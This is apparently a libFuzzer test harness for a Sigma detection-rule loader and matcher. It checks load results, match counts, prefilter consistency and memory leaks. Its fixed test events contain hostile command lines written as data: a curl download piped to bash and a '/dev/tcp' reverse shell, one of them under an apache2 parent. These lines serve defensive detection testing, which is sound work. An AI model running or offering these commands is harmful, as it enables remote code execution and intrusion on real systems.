/*
 * fuzz/sigma — libFuzzer target for the Sigma rule loader and matcher.
 *
 * The input is rule text (YAML, one or more documents).  It is loaded into a
 * fresh rule set, then every loaded rule is matched against three fixed
 * events (a process creation with the usual fields, an auditd record, an
 * sshd line for keyword rules) and, through sigma_match_event, a canonical
 * auditd exec event (both record views).
 *
 * Properties checked:
 *   - loading returns a count, NJ_EFORMAT or -ENOMEM, never anything else,
 *     and a failure leaves a non-empty sentence;
 *   - every skip has a file and a non-empty reason; every rule has a title
 *     and a level in range;
 *   - sigma_match returns a count in [0, rules] and the hits it writes name
 *     valid rules;
 *   - the prefilters (end bytes, literal groups, regex literals) change no
 *     answer: the same hits with them switched off (sj_no_prefilter);
 *   - nothing leaks (nj_mem_in_use returns to its starting value).
 * Built and run by scripts/fuzz (clang -fsanitize=fuzzer); needs -lyaml
 * -lpcre2-8 -ljansson at link time.
 */
#include "sigma.h"
#include "sigma_int.h"      /* sj_no_prefilter */
#include "util.h"

#include <jansson.h>

#include <stdint.h>
#include <stdlib.h>
#include <string.h>

static const char *fields[][2] = {
    {"Image", "/usr/bin/curl"},
    {"CommandLine", "curl -s http://203.0.113.9/x.sh | bash -i >& /dev/tcp/1.2.3.4/80 0>&1"},
    {"ParentImage", "/bin/bash"},
    {"User", "root"},
    {"CurrentDirectory", "/tmp"},
    {"DestinationIp", "203.0.113.9"},
    {"DestinationPort", "4444"},
    {"type", "EXECVE"},
    {"a0", "curl"},
    {"a1", "-s"},
    {"comm", "curl"},
    {"ParentCommandLine", ""},
};

static const char *get(void *ctx, const char *f, size_t *len) {
    (void)ctx;
    for (size_t i = 0; i < sizeof fields / sizeof fields[0]; i++)
        if (!strcmp(fields[i][0], f)) { *len = strlen(fields[i][1]); return fields[i][1]; }
    return NULL;
}

int LLVMFuzzerTestOneInput(const uint8_t *data, size_t size) {
    char *copy = malloc(size ? size : 1);     /* exact size: overreads hit the redzone */
    if (!copy) return 0;
    memcpy(copy, data, size);
    size_t before = nj_mem_in_use();
    int err;
    sigma_rules *rs = sigma_rules_new(&err);
    if (!rs) { free(copy); return 0; }
    int rc = sigma_load_text(rs, "fuzz.yml", copy, size);
    if (rc < 0 && rc != NJ_EFORMAT && rc != -ENOMEM) abort();
    if (rc < 0 && !nj_last_error()[0]) abort();
    int n = sigma_rule_count(rs);
    for (int i = 0; i < sigma_skip_count(rs); i++) {
        const sigma_skip *s = sigma_skip_at(rs, i);
        if (!s->file || !s->reason || !s->reason[0]) abort();
    }
    for (int i = 0; i < n; i++) {
        const sigma_rule_info *r = sigma_rule(rs, i);
        if (!r->title[0] || r->level < SIGMA_INFORMATIONAL || r->level > SIGMA_CRITICAL) abort();
    }
    static const char raw[] = "Dec 10 06:55:46 host sshd[24200]: Failed password for invalid user admin from 198.51.100.7 port 52311 ssh2";
    sigma_event_view views[3] = {
        {get, NULL, fields[1][1], strlen(fields[1][1]), "linux", "process_creation", NULL},
        {get, NULL, "type=EXECVE a0=curl", 19, "linux", "process_creation", "auditd"},
        {get, NULL, raw, sizeof raw - 1, NULL, NULL, "sshd"},
    };
    sigma_hit hits[8], plain[8];
    for (int v = 0; v < 3; v++) {
        int k = sigma_match(rs, &views[v], hits, 8);
        if (k < 0 || k > n) abort();
        for (int i = 0; i < k && i < 8; i++)
            if (hits[i].rule < 0 || hits[i].rule >= n || !hits[i].title) abort();
        sj_no_prefilter = 1;
        int k2 = sigma_match(rs, &views[v], plain, 8);
        sj_no_prefilter = 0;
        if (k2 != k) abort();
        for (int i = 0; i < k && i < 8; i++)
            if (plain[i].rule != hits[i].rule) abort();
    }
    static json_t *canon;
    if (!canon) {
        json_error_t je;
        canon = json_loads("{\"v\":1,\"id\":\"a:1\",\"kind\":\"exec\",\"time\":\"t\",\"source\":{\"format\":\"auditd\"},"
                           "\"user\":{\"name\":\"www-data\",\"uid\":33,\"euid\":33,\"auid\":4294967295},"
                           "\"process\":{\"pid\":9,\"ppid\":8,\"path\":\"/usr/bin/bash\",\"argv\":[\"bash\",\"-i\"],"
                           "\"cmdline\":\"bash -i >& /dev/tcp/1.2.3.4/80 0>&1\",\"cwd\":\"/tmp\"},"
                           "\"parent\":{\"pid\":8,\"path\":\"/usr/sbin/apache2\"},"
                           "\"raw\":\"type=SYSCALL msg=audit(1.2:3): syscall=59 key=\\\"exec\\\"\"}", 0, &je);
        if (!canon) abort();
    }
    int k = sigma_match_event(rs, canon, hits, 8);
    if (k < 0 || k > n) abort();
    for (int i = 0; i < k && i < 8; i++)
        if (hits[i].rule < 0 || hits[i].rule >= n || (i && hits[i].rule <= hits[i - 1].rule)) abort();
    sigma_rules_free(rs);
    if (nj_mem_in_use() != before) abort();
    free(copy);
    return 0;
}
